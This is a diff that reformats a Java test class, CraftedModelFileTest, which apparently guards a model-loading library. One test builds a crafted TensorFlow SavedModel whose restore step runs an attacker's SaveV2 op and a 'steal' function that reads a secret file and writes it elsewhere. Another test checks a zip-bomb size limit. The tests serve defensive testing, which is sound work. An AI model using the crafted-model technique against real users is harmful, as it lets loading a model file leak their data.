@@ -53,7 +53,8 @@ class CraftedModelFileTest
 	void fileOpsChainedIntoRestoreNeverRun() throws IOException
 	{
 		final Path genuine = dir.resolve( "genuine.aemodel.zip" ), crafted = dir.resolve( "crafted.aemodel.zip" );
-		final Path attack = dir.resolve( "attack" ), payload = attack.resolve( "payload" ), stolen = attack.resolve( "stolen.txt" );
+		final Path attack = dir.resolve( "attack" ), payload = attack.resolve( "payload" ),
+				stolen = attack.resolve( "stolen.txt" );
 		final Path secret = dir.resolve( "secret.txt" );
 		Files.write( secret, "the user's secret".getBytes( StandardCharsets.UTF_8 ) );
 		final float[] x = input();
@@ -64,13 +65,17 @@ class CraftedModelFileTest
 			ModelFile.save( m, genuine, Map.of() );
 			// the attacker's ops: a SaveV2 of their bytes to a path of their choice ...
 			final Ops tf = Ops.create( m.graph() );
-			tf.withName( "evil_save" ).train.save( tf.constant( payload.toString() ), tf.constant( StdArrays.ndCopyOf( new String[] { "x" } ) ), tf.constant( StdArrays.ndCopyOf( new String[] { "" } ) ),
+			tf.withName( "evil_save" ).train.save( tf.constant( payload.toString() ),
+					tf.constant( StdArrays.ndCopyOf( new String[] { "x" } ) ),
+					tf.constant( StdArrays.ndCopyOf( new String[] { "" } ) ),
 					List.of( tf.constant( new String( PAYLOAD, StandardCharsets.UTF_8 ) ) ) );
 			ModelFile.save( m, crafted, Map.of() );
 		}
 		// ... chained into the restore step, with a function that reads a file and writes it out
 		final Map< String, byte[] > entries = ZipEntries.read( crafted );
-		entries.put( "saved_model/saved_model.pb", chainIntoRestore( SavedModel.parseFrom( entries.get( "saved_model/saved_model.pb" ) ), secret, stolen ).toByteArray() );
+		entries.put( "saved_model/saved_model.pb",
+				chainIntoRestore( SavedModel.parseFrom( entries.get( "saved_model/saved_model.pb" ) ), secret, stolen )
+						.toByteArray() );
 		ZipEntries.write( entries, crafted );
 
 		// the file is a real attack: TensorFlow's own loader runs it
@@ -81,10 +86,12 @@ class CraftedModelFileTest
 				Files.createDirectories( unpacked.resolve( e.getKey() ).getParent() );
 				Files.write( unpacked.resolve( e.getKey() ), e.getValue() );
 			}
-		try ( SavedModelBundle b = SavedModelBundle.loader( unpacked.resolve( "saved_model" ).toString() ).withTags( SavedModelBundle.DEFAULT_TAG ).load() )
+		try ( SavedModelBundle b = SavedModelBundle.loader( unpacked.resolve( "saved_model" ).toString() )
+				.withTags( SavedModelBundle.DEFAULT_TAG ).load() )
 		{
 			assertTrue( Files.exists( attack.resolve( "payload.index" ) ), "TensorFlow's loader ran the SaveV2" );
-			assertEquals( "the user's secret", Files.readString( stolen ), "TensorFlow's loader ran the function's ReadFile/WriteFile" );
+			assertEquals( "the user's secret", Files.readString( stolen ),
+					"TensorFlow's loader ran the function's ReadFile/WriteFile" );
 		}
 		AtomicFiles.deleteTree( attack );
 
@@ -148,7 +155,8 @@ class CraftedModelFileTest
 		entries.put( "saved_model/saved_model.pb", new byte[ 3 << 20 ] ); // 3 MiB of zeros: a few KB zipped, never kept
 		final byte[] zip = ZipEntries.write( entries );
 		assertTrue( zip.length < 20_000, zip.length + " bytes" );
-		final IOException e = assertThrows( IOException.class, () -> ModelZip.read( new java.io.ByteArrayInputStream( zip ), "bomb.zip", true, new ModelZip.Budget( 2 << 20 ) ) );
+		final IOException e = assertThrows( IOException.class, () -> ModelZip
+				.read( new java.io.ByteArrayInputStream( zip ), "bomb.zip", true, new ModelZip.Budget( 2 << 20 ) ) );
 		assertTrue( e.getMessage().contains( "bomb.zip unpacks to more than 2 MiB" ), e.getMessage() );
 		assertTrue( new ModelZip.Budget().limit <= Runtime.getRuntime().maxMemory() / 3 );
 	}
@@ -160,7 +168,8 @@ class CraftedModelFileTest
 		final java.util.LinkedHashMap< String, byte[] > m = new java.util.LinkedHashMap<>( entries );
 		m.put( other, entries.get( name ) );
 		final byte[] bytes = ZipEntries.write( m );
-		final byte[] from = other.getBytes( StandardCharsets.US_ASCII ), to = name.getBytes( StandardCharsets.US_ASCII );
+		final byte[] from = other.getBytes( StandardCharsets.US_ASCII ),
+				to = name.getBytes( StandardCharsets.US_ASCII );
 		for ( int i = 0; i + from.length <= bytes.length; i++ )
 			if ( Arrays.equals( bytes, i, i + from.length, from, 0, from.length ) )
 				System.arraycopy( to, 0, bytes, i, to.length );
@@ -195,11 +204,13 @@ class CraftedModelFileTest
 		assertEquals( 1, found, "the restore op " + restore );
 		final FunctionDef steal = FunctionDef.newBuilder()
 				.setSignature( OpDef.newBuilder().setName( "steal" ).setIsStateful( true )
-						.addOutputArg( OpDef.ArgDef.newBuilder().setName( "contents" ).setType( DataType.DT_STRING ) ).addControlOutput( "written" ) )
+						.addOutputArg( OpDef.ArgDef.newBuilder().setName( "contents" ).setType( DataType.DT_STRING ) )
+						.addControlOutput( "written" ) )
 				.addNodeDef( stringConst( "path", secret.toString() ) )
 				.addNodeDef( stringConst( "target", stolen.toString() ) )
 				.addNodeDef( NodeDef.newBuilder().setName( "read" ).setOp( "ReadFile" ).addInput( "path:output:0" ) )
-				.addNodeDef( NodeDef.newBuilder().setName( "write" ).setOp( "WriteFile" ).addInput( "target:output:0" ).addInput( "read:contents:0" ) )
+				.addNodeDef( NodeDef.newBuilder().setName( "write" ).setOp( "WriteFile" ).addInput( "target:output:0" )
+						.addInput( "read:contents:0" ) )
 				.putRet( "contents", "read:contents:0" ).putControlRet( "written", "write" ).build();
 		g.getLibraryBuilder().addFunction( steal );
 		g.addNode( NodeDef.newBuilder().setName( "steal_call" ).setOp( "steal" ) );
@@ -208,9 +219,12 @@ class CraftedModelFileTest
 
 	private static NodeDef stringConst( final String name, final String value )
 	{
-		return NodeDef.newBuilder().setName( name ).setOp( "Const" ).putAttr( "dtype", AttrValue.newBuilder().setType( DataType.DT_STRING ).build() )
-				.putAttr( "value", AttrValue.newBuilder().setTensor( TensorProto.newBuilder().setDtype( DataType.DT_STRING )
-						.setTensorShape( TensorShapeProto.getDefaultInstance() ).addStringVal( ByteString.copyFromUtf8( value ) ) ).build() )
+		return NodeDef.newBuilder().setName( name ).setOp( "Const" )
+				.putAttr( "dtype", AttrValue.newBuilder().setType( DataType.DT_STRING ).build() )
+				.putAttr( "value",
+						AttrValue.newBuilder().setTensor( TensorProto.newBuilder().setDtype( DataType.DT_STRING )
+								.setTensorShape( TensorShapeProto.getDefaultInstance() )
+								.addStringVal( ByteString.copyFromUtf8( value ) ) ).build() )
 				.build();
 	}
 }
